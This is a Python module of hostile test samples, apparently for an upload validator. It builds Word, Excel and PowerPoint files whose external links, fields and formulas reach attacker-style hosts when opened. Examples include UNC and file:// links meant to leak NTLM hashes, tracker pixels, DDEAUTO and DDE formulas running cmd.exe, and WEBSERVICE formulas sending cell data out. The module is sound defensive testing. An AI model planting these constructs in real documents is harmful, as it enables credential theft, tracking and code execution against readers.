"""Office files that reach outside themselves when opened (or clicked): external relationships.

A relationship with ``TargetMode="External"`` makes Word or Excel fetch its target: a linked
image from ``file://`` or ``\\\\host\\share`` sends the reader's NTLM hash to that host, one from
``http://`` tells a tracker who opened the evidence and when; a remote template, OLE link,
frame, sub-document or external workbook link does the same on open; a hyperlink does it on a
click. Fields (``INCLUDEPICTURE``, ``DDEAUTO``) and data connections (``refreshOnLoad``) fetch
without any relationship. Every one of them is refused by the upload check.
"""

from __future__ import annotations

import io
import zipfile

from tests.security.hostile.corpus import NEUTRALIZE, REFUSE, Sample, docx, part, rezip, xlsx

R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PKG = "http://schemas.openxmlformats.org/package/2006/relationships"
W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"


def rels(*relationships: tuple[str, str, str]) -> bytes:
    """A .rels part: (type suffix or full type, target, target mode or "")."""
    body = "".join(
        f'<Relationship Id="rIdX{i}" Type="{t if "://" in t else R + "/" + t}" '
        f'Target="{target}"' + (f' TargetMode="{mode}"' if mode else "") + "/>"
        for i, (t, target, mode) in enumerate(relationships, start=1)
    )
    return (
        f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
        f'<Relationships xmlns="{PKG}">{body}</Relationships>'
    ).encode()


def add_relationship(base: bytes, rels_part: str, rel_type: str, target: str, mode: str) -> bytes:
    """Append one relationship to an existing .rels part (or create the part)."""
    with zipfile.ZipFile(io.BytesIO(base)) as zf:
        existing = zf.read(rels_part) if rels_part in zf.namelist() else None
    new = rels((rel_type, target, mode))
    if existing is None:
        return rezip(base, add={rels_part: new})
    element = new[new.index(b"<Relationship ") : new.index(b"</Relationships>")]
    return rezip(
        base,
        replace={rels_part: existing.replace(b"</Relationships>", element + b"</Relationships>")},
    )


def docx_rel(rel_type: str, target: str, mode: str = "External", where: str = "") -> bytes:
    return add_relationship(docx(), where or "word/_rels/document.xml.rels", rel_type, target, mode)


def xlsx_rel(rel_type: str, target: str, mode: str = "External", where: str = "") -> bytes:
    return add_relationship(
        xlsx(), where or "xl/worksheets/_rels/sheet1.xml.rels", rel_type, target, mode
    )


def docx_linked_image(target: str) -> bytes:
    """A picture whose bits are not in the file: ``<a:blip r:link>`` to an outside address."""
    base = docx_rel("image", target)
    drawing = (
        '<w:r><w:drawing><wp:inline xmlns:wp="http://schemas.openxmlformats.org/'
        'drawingml/2006/wordprocessingDrawing"><wp:extent cx="9525" cy="9525"/>'
        '<wp:docPr id="1" name="p"/><a:graphic xmlns:a="http://schemas.openxmlformats.org/'
        'drawingml/2006/main"><a:graphicData uri="http://schemas.openxmlformats.org/'
        'drawingml/2006/picture"><pic:pic xmlns:pic="http://schemas.openxmlformats.org/'
        'drawingml/2006/picture"><pic:nvPicPr><pic:cNvPr id="1" name="p"/><pic:cNvPicPr/>'
        f'</pic:nvPicPr><pic:blipFill><a:blip xmlns:r="{R}" r:link="rIdX1"/></pic:blipFill>'
        "<pic:spPr/></pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r>"
    ).encode()
    doc = part(base, "word/document.xml").replace(b"</w:p>", drawing + b"</w:p>", 1)
    return rezip(base, replace={"word/document.xml": doc})


def docx_hyperlink(url: str) -> bytes:
    """What Word writes for a typed link: a relationship and a ``<w:hyperlink r:id>``."""
    base = docx_rel("hyperlink", url)
    link = (
        f'<w:hyperlink xmlns:r="{R}" r:id="rIdX1"><w:r><w:t>点此查看</w:t></w:r></w:hyperlink>'
    ).encode()
    doc = part(base, "word/document.xml").replace(b"</w:p>", link + b"</w:p>", 1)
    return rezip(base, replace={"word/document.xml": doc})


def docx_with_field(instruction: str) -> bytes:
    """A field Word evaluates on open (``INCLUDEPICTURE`` fetches, ``DDEAUTO`` runs a program)."""
    base = docx()
    field = f'<w:fldSimple w:instr="{instruction}"><w:r><w:t>1</w:t></w:r></w:fldSimple>'
    doc = part(base, "word/document.xml").replace(b"</w:p>", field.encode() + b"</w:p>", 1)
    return rezip(base, replace={"word/document.xml": doc})


def docx_with_field_code(instruction: str) -> bytes:
    """The same field written as a complex field (``w:instrText`` between fldChar runs)."""
    base = docx()
    runs = (
        '<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        f'<w:r><w:instrText xml:space="preserve"> {instruction} </w:instrText></w:r>'
        '<w:r><w:fldChar w:fldCharType="end"/></w:r>'
    )
    doc = part(base, "word/document.xml").replace(b"</w:p>", runs.encode() + b"</w:p>", 1)
    return rezip(base, replace={"word/document.xml": doc})


def docx_internal_anchor_link() -> bytes:
    """A link to a bookmark inside the document: no relationship at all, so it is accepted."""
    base = docx()
    link = '<w:hyperlink w:anchor="_Toc1"><w:r><w:t>目录</w:t></w:r></w:hyperlink>'
    doc = part(base, "word/document.xml").replace(b"</w:p>", link.encode() + b"</w:p>", 1)
    return rezip(base, replace={"word/document.xml": doc})


def xlsx_hyperlink(url: str) -> bytes:
    """What openpyxl and Excel write for ``cell.hyperlink = url``."""
    from openpyxl import Workbook

    wb = Workbook()
    wb.active["A1"] = "详见"
    wb.active["A1"].hyperlink = url
    out = io.BytesIO()
    wb.save(out)
    return out.getvalue()


def xlsx_formula(formula: str) -> bytes:
    from openpyxl import Workbook

    wb = Workbook()
    wb.active["A1"] = formula
    out = io.BytesIO()
    wb.save(out)
    return out.getvalue()


def xlsx_internal_sheet_link() -> bytes:
    """A cell linking to another cell of the same workbook (``location``, no relationship)."""
    from openpyxl import Workbook
    from openpyxl.worksheet.hyperlink import Hyperlink

    wb = Workbook()
    wb.active["A1"] = "见汇总"
    wb.active["A1"].hyperlink = Hyperlink(ref="A1", location="'Sheet'!B2")
    out = io.BytesIO()
    wb.save(out)
    return out.getvalue()


def xlsx_external_workbook_link(target: str) -> bytes:
    """An ``externalLink`` part: Excel offers to (or silently does) update it from ``target``."""
    base = xlsx()
    link = (
        '<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
        f'xmlns:r="{R}"><externalBook r:id="rIdX1"/></externalLink>'
    ).encode()
    ct = part(base, "[Content_Types].xml").replace(
        b"</Types>",
        b'<Override PartName="/xl/externalLinks/externalLink1.xml" ContentType="application/'
        b'vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml"/></Types>',
    )
    base = rezip(
        base,
        replace={"[Content_Types].xml": ct},
        add={
            "xl/externalLinks/externalLink1.xml": link,
            "xl/externalLinks/_rels/externalLink1.xml.rels": rels(
                ("externalLinkPath", target, "External")
            ),
        },
    )
    return add_relationship(
        base, "xl/_rels/workbook.xml.rels", "externalLink", "externalLinks/externalLink1.xml", ""
    )


def xlsx_external_link_part_only() -> bytes:
    """An externalLink part declared by its content type, its relationship left out."""
    base = xlsx()
    ct = part(base, "[Content_Types].xml").replace(
        b"</Types>",
        b'<Override PartName="/xl/externalLinks/externalLink1.xml" ContentType="application/'
        b'vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml"/></Types>',
    )
    link = (
        b'<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
        b"<externalBook/></externalLink>"
    )
    return rezip(
        base,
        replace={"[Content_Types].xml": ct},
        add={"xl/externalLinks/externalLink1.xml": link},
    )


def xlsx_web_query(url: str) -> bytes:
    """A data connection refreshed when the workbook opens (a web query to ``url``)."""
    base = xlsx()
    connections = (
        '<connections xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
        '<connection id="1" name="q" type="4" refreshedVersion="6" refreshOnLoad="1">'
        f'<webPr url="{url}"/></connection></connections>'
    ).encode()
    ct = part(base, "[Content_Types].xml").replace(
        b"</Types>",
        b'<Override PartName="/xl/connections.xml" ContentType="application/'
        b'vnd.openxmlformats-officedocument.spreadsheetml.connections+xml"/></Types>',
    )
    base = rezip(base, replace={"[Content_Types].xml": ct}, add={"xl/connections.xml": connections})
    return add_relationship(
        base, "xl/_rels/workbook.xml.rels", "connections", "connections.xml", ""
    )


def pptx_with_external_image() -> bytes:
    """A presentation (not an accepted type) that links a picture from a share."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as zf:
        zf.writestr(
            "[Content_Types].xml",
            '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
            '<Override PartName="/ppt/presentation.xml" ContentType="application/vnd.'
            'openxmlformats-officedocument.presentationml.presentation.main+xml"/></Types>',
        )
        zf.writestr("_rels/.rels", rels(("officeDocument", "ppt/presentation.xml", "")))
        zf.writestr(
            "ppt/presentation.xml",
            '<p:presentation xmlns:p="http://schemas.openxmlformats.org/presentationml/2006/main"/>',
        )
        zf.writestr(
            "ppt/_rels/presentation.xml.rels",
            rels(("image", "file://attacker.invalid/share/x.png", "External")),
        )
    return out.getvalue()


SHARE = "file://attacker.invalid/share/logo.png"
UNC = "\\\\attacker.invalid\\share\\logo.png"
TRACKER = "http://tracker.invalid/p.png?who=reviewer"


def samples() -> list[Sample]:
    """The external-reference cases of the hostile corpus (all refused but the last)."""
    cases: list[tuple[str, str, object]] = [
        # Word: pictures, links, templates, objects, frames, sub-documents, anywhere.
        ("docx-linked-image-file-url", "报告.docx", lambda: docx_linked_image(SHARE)),
        ("docx-linked-image-unc-path", "报告.docx", lambda: docx_linked_image(UNC)),
        ("docx-linked-image-http", "报告.docx", lambda: docx_linked_image(TRACKER)),
        ("docx-hyperlink-http", "报告.docx", lambda: docx_hyperlink("http://tracker.invalid/a")),
        ("docx-hyperlink-https", "报告.docx", lambda: docx_hyperlink("https://x.invalid/a")),
        ("docx-hyperlink-file-share", "报告.docx", lambda: docx_hyperlink(SHARE)),
        ("docx-hyperlink-mailto", "报告.docx", lambda: docx_hyperlink("mailto:a@x.invalid")),
        (
            "docx-attached-template-file-url",
            "报告.docx",
            lambda: docx_rel(
                "attachedTemplate",
                "file://attacker.invalid/t.dotm",
                where="word/_rels/settings.xml.rels",
            ),
        ),
        (
            "docx-attached-template-unc",
            "报告.docx",
            lambda: docx_rel(
                "attachedTemplate",
                "\\\\attacker.invalid\\t.dotm",
                where="word/_rels/settings.xml.rels",
            ),
        ),
        ("docx-ole-object-link", "报告.docx", lambda: docx_rel("oleObject", SHARE)),
        (
            "docx-frame-in-web-settings",
            "报告.docx",
            lambda: docx_rel("frame", TRACKER, where="word/_rels/webSettings.xml.rels"),
        ),
        ("docx-sub-document", "报告.docx", lambda: docx_rel("subDocument", SHARE)),
        (
            "docx-external-rel-in-package-rels",
            "报告.docx",
            lambda: docx_rel("hyperlink", TRACKER, where="_rels/.rels"),
        ),
        (
            "docx-external-rel-in-header-rels",
            "报告.docx",
            lambda: docx_rel("image", SHARE, where="word/_rels/header1.xml.rels"),
        ),
        (
            "docx-external-rel-in-custom-xml-rels",
            "报告.docx",
            lambda: docx_rel("image", SHARE, where="customXml/_rels/item1.xml.rels"),
        ),
        (
            "docx-external-of-unknown-type",
            "报告.docx",
            lambda: docx_rel("http://attacker.invalid/anything", TRACKER),
        ),
        (
            "docx-target-mode-other-case",
            "报告.docx",
            lambda: docx_rel("image", SHARE, mode="external"),
        ),
        (
            "docx-url-target-without-target-mode",
            "报告.docx",
            lambda: docx_rel("image", TRACKER, mode=""),
        ),
        (
            "docx-unc-target-without-target-mode",
            "报告.docx",
            lambda: docx_rel("image", UNC, mode=""),
        ),
        (
            "docx-network-path-target-without-target-mode",
            "报告.docx",
            lambda: docx_rel("image", "//attacker.invalid/share/x.png", mode=""),
        ),
        (
            "docx-includepicture-field",
            "报告.docx",
            lambda: docx_with_field(f"INCLUDEPICTURE &quot;{TRACKER}&quot; \\d"),
        ),
        (
            "docx-includepicture-field-code",
            "报告.docx",
            lambda: docx_with_field_code(f'INCLUDEPICTURE "{SHARE}" \\d'),
        ),
        (
            "docx-includetext-field-code",
            "报告.docx",
            lambda: docx_with_field_code('INCLUDETEXT "\\\\\\\\attacker.invalid\\\\a.docx"'),
        ),
        (
            "docx-ddeauto-field-code",
            "报告.docx",
            lambda: docx_with_field_code('DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"'),
        ),
        (
            "docx-link-field",
            "报告.docx",
            lambda: docx_with_field(
                "LINK Excel.Sheet.12 &quot;\\\\\\\\attacker.invalid\\\\a.xlsx&quot; &quot;&quot;"
            ),
        ),
        (
            "docx-database-field",
            "报告.docx",
            lambda: docx_with_field_code(
                'DATABASE \\d "\\\\attacker.invalid\\data.mdb" \\s "select * from t"'
            ),
        ),
        (
            "docx-hyperlink-field-to-address",
            "报告.docx",
            lambda: docx_with_field_code('HYPERLINK "http://tracker.invalid/a" \\o "提示"'),
        ),
        # Excel: hyperlinks, linked pictures, OLE links, external workbooks, web queries.
        ("xlsx-hyperlink-http", "台账.xlsx", lambda: xlsx_hyperlink("http://tracker.invalid/a")),
        ("xlsx-hyperlink-file-share", "台账.xlsx", lambda: xlsx_hyperlink(SHARE)),
        (
            "xlsx-linked-image-in-drawing",
            "台账.xlsx",
            lambda: xlsx_rel("image", SHARE, where="xl/drawings/_rels/drawing1.xml.rels"),
        ),
        ("xlsx-ole-object-link", "台账.xlsx", lambda: xlsx_rel("oleObject", UNC)),
        (
            "xlsx-external-workbook-link",
            "台账.xlsx",
            lambda: xlsx_external_workbook_link("file:///\\\\attacker.invalid\\share\\a.xlsx"),
        ),
        (
            "xlsx-external-workbook-link-http",
            "台账.xlsx",
            lambda: xlsx_external_workbook_link("http://attacker.invalid/a.xlsx"),
        ),
        ("xlsx-external-link-part-only", "台账.xlsx", xlsx_external_link_part_only),
        ("xlsx-web-query-on-open", "台账.xlsx", lambda: xlsx_web_query(TRACKER)),
        (
            "xlsx-external-rel-in-workbook-rels",
            "台账.xlsx",
            lambda: xlsx_rel("hyperlink", TRACKER, where="xl/_rels/workbook.xml.rels"),
        ),
        (
            "xlsx-webservice-formula",
            "台账.xlsx",
            lambda: xlsx_formula('=WEBSERVICE("http://tracker.invalid/?" & A2)'),
        ),
        ("xlsx-image-formula", "台账.xlsx", lambda: xlsx_formula(f'=_xlfn.IMAGE("{TRACKER}")')),
        ("xlsx-dde-formula", "台账.xlsx", lambda: xlsx_formula("=cmd|' /C calc'!A0")),
        (
            "xlsx-hyperlink-formula-to-share",
            "台账.xlsx",
            lambda: xlsx_formula(f'=HYPERLINK("{SHARE}","点此")'),
        ),
        # PowerPoint is not an accepted type at all; with a linked picture it stays refused.
        ("pptx-linked-image", "汇报.pptx", pptx_with_external_image),
        ("pptx-renamed-docx-linked-image", "报告.docx", pptx_with_external_image),
    ]
    out = [
        Sample(key, name, make, REFUSE, tags=("unsupported" if "pptx" in key else "external",))  # type: ignore[arg-type]
        for key, name, make in cases
    ]
    # Links that stay inside the file are ordinary (a table of contents, a sheet reference).
    out += [
        Sample(
            "docx-internal-bookmark-link",
            "报告.docx",
            docx_internal_anchor_link,
            NEUTRALIZE,
            stored_ext="docx",
            tags=("external",),
        ),
        Sample(
            "docx-toc-hyperlink-field-to-bookmark",
            "报告.docx",
            lambda: docx_with_field_code('HYPERLINK \\l "_Toc123" \\h'),
            NEUTRALIZE,
            stored_ext="docx",
            tags=("external",),
        ),
        Sample(
            "xlsx-hyperlink-formula-to-cell",
            "台账.xlsx",
            lambda: xlsx_formula('=HYPERLINK("#Sheet!B2","见汇总")'),
            NEUTRALIZE,
            stored_ext="xlsx",
            tags=("external",),
        ),
        Sample(
            "xlsx-pipe-inside-text-of-formula",
            "台账.xlsx",
            lambda: xlsx_formula('=IF(A2="a|b","是","否")'),
            NEUTRALIZE,
            stored_ext="xlsx",
            tags=("external",),
        ),
        Sample(
            "xlsx-internal-sheet-link",
            "台账.xlsx",
            xlsx_internal_sheet_link,
            NEUTRALIZE,
            stored_ext="xlsx",
            tags=("external",),
        ),
    ]
    return out
